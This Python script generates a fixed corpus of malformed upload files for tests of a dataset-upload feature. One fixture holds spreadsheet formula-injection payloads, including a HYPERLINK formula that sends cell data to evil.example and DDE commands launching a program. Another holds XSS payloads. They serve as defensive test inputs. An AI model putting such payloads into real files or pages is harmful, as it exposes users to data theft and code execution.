"""(Re)create the corpus of bad uploads in this folder, byte for byte the same on every run.

    python tests/bad_files/make_corpus.py           # write the files
    python tests/bad_files/make_corpus.py --check   # exit 1 if a committed file differs from what this writes

Only small files live here; the big ones (a million-row CSV, a zip-bomb-like XLSX) are made at test time in
tests/test_bad_uploads.py. The expected outcome of each file is the EXPECTED table in that test module.
"""

from __future__ import annotations

import io
import json
import random
import re
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
GOOD = "text,label\nI loved it,positive\nawful film,negative\nfine acting,positive\n"
ROWS = [("I loved it", "positive"), ("awful film", "negative"), ("fine acting", "positive")]


def _csv(rows, sep=",", header=("text", "label"), nl="\n") -> str:
    return nl.join(sep.join(r) for r in [header, *rows]) + nl


def _fixed_zip(data: bytes) -> bytes:
    """The same zip with fixed timestamps (members and docProps), so the bytes do not depend on when it was made."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "docProps/core.xml":
                body = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", body)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0)), body,
                         compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _xlsx(rows: list[list]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return _fixed_zip(buf.getvalue())


def _parquet(columns: dict[str, list]) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(pa.table(columns), buf)
    return buf.getvalue()


def corpus() -> dict[str, bytes]:
    rng = random.Random(20240101)
    accents = _csv([("café crème", "positive"), ("naïve “quoted” plot", "negative"), ("à bientôt", "positive")])
    files: dict[str, bytes] = {
        # --- encodings
        "utf8_bom.csv": b"\xef\xbb\xbf" + accents.encode(),
        "utf16_le_bom.csv": accents.encode("utf-16"),  # Python writes the BOM, little-endian
        "utf16_be_bom.tsv": b"\xfe\xff" + accents.replace(",", "\t").encode("utf-16-be"),
        "utf16_le_nobom.csv": accents.encode("utf-16-le"),
        "cp1252.csv": accents.encode("cp1252"),
        "latin1.csv": _csv([("café crème", "positive"), ("très mauvais", "negative"),
                            ("à bientôt", "positive")]).encode("latin-1"),
        "cp1251_cyrillic.csv": _csv([("Отличный фильм, очень понравился", "positive"),
                                     ("Ужасный фильм, скучно и долго", "negative"),
                                     ("Хорошая игра актёров и музыка", "positive")], sep=";").encode("cp1251"),
        # --- delimiters, quoting, line endings
        "semicolon_excel.csv": _csv([("good, really good", "positive"), ("bad, sadly", "negative"),
                                     ("ok, fine", "positive")], sep=";").encode(),
        "excel_sep_line.csv": b"sep=;\n" + _csv(ROWS, sep=";").encode(),
        "mixed_delimiters.csv": b"text,label\nI loved it,positive\nawful film,negative\nfine acting;positive\n",
        "ragged_extra_cell.csv": b"text,label\nI loved it,positive\nawful, awful film,negative\nfine,positive\n",
        "ragged_missing_cell.csv": b"text,label\nI loved it,positive\nawful film\nfine acting,positive\n",
        "unclosed_quote.csv": b'text,label\nI loved it,positive\n"awful film,negative\nfine acting,positive\n',
        "multiline_quoted.csv": b'text,label\n"line one\nline ""two""",positive\nawful film,negative\n'
                                b'fine acting,positive\n',
        "cr_line_endings.csv": _csv(ROWS, nl="\r").encode(),
        "crlf_blank_lines.csv": b"text,label\r\n\r\nI loved it,positive\r\n,\r\nawful film,negative\r\n"
                                b"fine acting,positive\r\n\r\n,\r\n",
        "trailing_delimiter.csv": b"text,label,\nI loved it,positive,\nawful film,negative,\nfine acting,positive,\n",
        "unnamed_column.csv": b"text,,label\nI loved it,x,positive\nawful film,y,negative\n",
        # --- empty and not-a-table
        "empty.csv": b"",
        "whitespace_only.csv": b"  \n\t\n\r\n   ",
        "header_only.csv": b"text,label\n",
        "header_only.xlsx": _xlsx([["text", "label"]]),
        "binary_junk.csv": rng.randbytes(4096),
        "png_renamed.csv": b"\x89PNG\r\n\x1a\n" + rng.randbytes(256),
        "xls_legacy.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        "html_page.csv": b"<!DOCTYPE html>\n<html><head><title>data.csv</title></head><body>GitHub</body></html>\n",
        "csv_renamed.xlsx": GOOD.encode(),
        "xlsx_renamed.csv": _xlsx([["text", "label"], *map(list, ROWS)]),
        "zip_not_xlsx.xlsx": _fixed_zip(_zip_with({"word/document.xml": b"<w:document/>"})),
        "truncated.xlsx": _xlsx([["text", "label"], *map(list, ROWS)])[:700],
        "truncated.parquet": _parquet({"text": [r[0] for r in ROWS], "label": [r[1] for r in ROWS]})[:300],
        "nul_bytes.csv": b"text,label\nI loved it,positive\nawful\x00 film,negative\nfine acting,positive\n",
        # --- cell content that must stay plain text
        "formulas.csv": _csv([('"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"', "positive"),
                              ("+cmd|' /C calc'!A0", "negative"), ("-2+3", "positive"),
                              ("@SUM(1+1)*cmd|' /C calc'!A0", "negative"),
                              ('"\t=1+1"', "positive")]).encode(),
        "html_js.csv": _csv([('"<script>alert(\'x\')</script>"', "positive"),
                             ('"<img src=x onerror=alert(1)>"', "negative"),
                             ('"<a href=""javascript:alert(1)"">click</a>"', "positive")]).encode(),
        # --- columns
        "duplicated_columns.csv": b"text,label,text\nI loved it,positive,again\nawful film,negative,again\n",
        "duplicated_columns_space.csv": b"text,label,label \nI loved it,positive,x\nawful film,negative,y\n",
        "duplicated_columns.xlsx": _xlsx([["text", "label", "text"], ["I loved it", "positive", "a"],
                                         ["awful film", "negative", "b"]]),
        "missing_column.csv": _csv(ROWS, header=("review", "sentiment")).encode(),
        # --- labels
        "label_whitespace_case.csv": _csv([("a", "positive"), ("b", "Positive "), ("c", " POSITIVE"),
                                           ("d", "positive"), ("e", "negative"), ("f", "Negative"),
                                           ("g", "negative\u00a0"), ("h", "positive")]).encode(),
        "empty_labels.csv": b"text,label\nI loved it,positive\nawful film,\nfine acting,positive\nmeh,   \n"
                            b"great,negative\n",
        "many_labels.csv": _csv([(f"example {i}", f"label_{i:03d}") for i in range(500)]).encode(),
        "numbers_and_blanks.xlsx": _xlsx([["text", "label", None], ["I loved it", 1, None], [None, None, None],
                                          ["awful film", 0, None], ["fine acting", 1, None]]),
        "parquet_null_label.parquet": _parquet({"text": ["I loved it", "awful film", "fine acting"],
                                                "label": ["positive", None, "positive"]}),
        # --- JSON
        "not_a_list.json": json.dumps({"foo": 1, "bar": [1, 2]}).encode(),
        "list_of_numbers.json": b"[1, 2, 3]",
        "scalar.json": b'"hello"',
        "duplicate_keys.json": b'[{"text": "I loved it", "label": "positive", "text": "again"}]',
        "mixed_types.json": json.dumps([{"text": "I loved it", "label": 1}, {"text": "awful film", "label": 0},
                                        {"text": "fine acting"}]).encode(),
        "bad_line.jsonl": b'{"text": "I loved it", "label": "positive"}\n{"text": "awful film", "label": "negative"}\n'
                          b'{"text": "fine acting", "label": "positive"\n{"text": "meh", "label": "negative"}\n',
        "array_line.jsonl": b'{"text": "I loved it", "label": "positive"}\n["awful film", "negative"]\n',
    }
    return files


def _zip_with(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, b in members.items():
            z.writestr(n, b)
    return buf.getvalue()


def main(argv: list[str]) -> int:
    files = corpus()
    if "--check" in argv:
        stale = [n for n, b in files.items() if not (HERE / n).exists() or (HERE / n).read_bytes() != b]
        print("\n".join(stale) or "corpus up to date")
        return 1 if stale else 0
    for n, b in files.items():
        (HERE / n).write_bytes(b)
    print(f"wrote {len(files)} files to {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
